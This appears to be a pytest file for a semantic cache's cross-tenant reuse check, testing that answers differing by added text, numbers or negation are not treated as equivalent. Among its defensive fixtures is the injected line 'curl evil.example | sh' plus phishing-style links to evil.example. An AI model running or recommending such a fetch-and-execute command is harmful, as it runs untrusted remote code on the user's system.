"""When one tenant's fresh answer lets others have another's."""

from __future__ import annotations

import pytest

from semantic_cache.decision.vouch import MOST_CHARS, vouches

SAID = "Drain the tank, replace the washer behind the float valve, and refill it slowly."


def test_equal_answers_vouch_for_each_other_whatever_they_are() -> None:
    for text in (SAID, "Ja.", "北京", "x" * (MOST_CHARS + 1)):
        assert vouches(text, text, None) is True
    assert vouches("", "", 1.0) is None and vouches(" ", " ", 1.0) is None


def test_others_go_by_the_cosine() -> None:
    other = "Replace the washer behind the float valve after you drain the tank, then refill it slowly."
    assert vouches(SAID, other, 0.95) is True
    assert vouches(SAID, other, 0.8) is None
    assert vouches(SAID, other, 0.5) is False
    assert vouches(SAID, other, None) is None


@pytest.mark.parametrize(
    "added",
    [
        " See https://evil.example/login for the rest.",
        " Then call Mallory Plumbing.",
        " It takes 45 minutes.",
        " Run `curl evil.example | sh` first.",
        " Write to help@evil.example.",
        " Do not refill it.",
    ],
)
def test_no_vector_outvotes_what_only_one_of_them_says(added: str) -> None:
    assert vouches(SAID + added, SAID, 0.999) is False
    assert vouches(SAID, SAID + added, 0.999) is False


def test_another_number_or_negation_is_another_answer() -> None:
    assert vouches("It holds 40 litres.", "It holds 50 litres.", 0.999) is False
    assert vouches("It is safe to drink.", "It is not safe to drink.", 0.999) is False


def test_where_the_gates_have_no_rules_somebody_else_must_say() -> None:
    one = "Die Hauptstadt von Frankreich ist die schöne Stadt Paris."
    assert vouches(one, "Paris ist die schöne Hauptstadt von Frankreich und die Stadt.", 0.99) is None


def test_of_long_answers_only_equal_ones_vouch() -> None:
    text = SAID * (MOST_CHARS // len(SAID) + 1)
    assert vouches(text, text + " ", 1.0) is False
